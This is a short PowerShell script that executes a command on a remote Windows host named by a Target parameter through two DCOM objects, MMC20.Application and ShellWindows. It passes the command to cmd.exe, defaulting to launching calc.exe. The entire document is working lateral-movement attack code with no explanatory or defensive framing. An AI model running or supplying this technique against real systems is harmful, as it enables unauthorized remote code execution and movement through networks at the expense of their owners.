param([Parameter(Mandatory)][string]$Target, [string]$Command = 'calc.exe')

$type = [Type]::GetTypeFromProgID('MMC20.Application', $Target)
$mmc = [Activator]::CreateInstance($type)
$mmc.Document.ActiveView.ExecuteShellCommand('cmd.exe', $null, "/c $Command", '7')

$shellWindows = [Activator]::CreateInstance([Type]::GetTypeFromCLSID('9BA05972-F6A8-11CF-A442-00A0C90A8F39', $Target))
$item = $shellWindows.Item()
$item.Document.Application.ShellExecute('cmd.exe', "/c $Command", 'C:\Windows\System32', $null, 0)
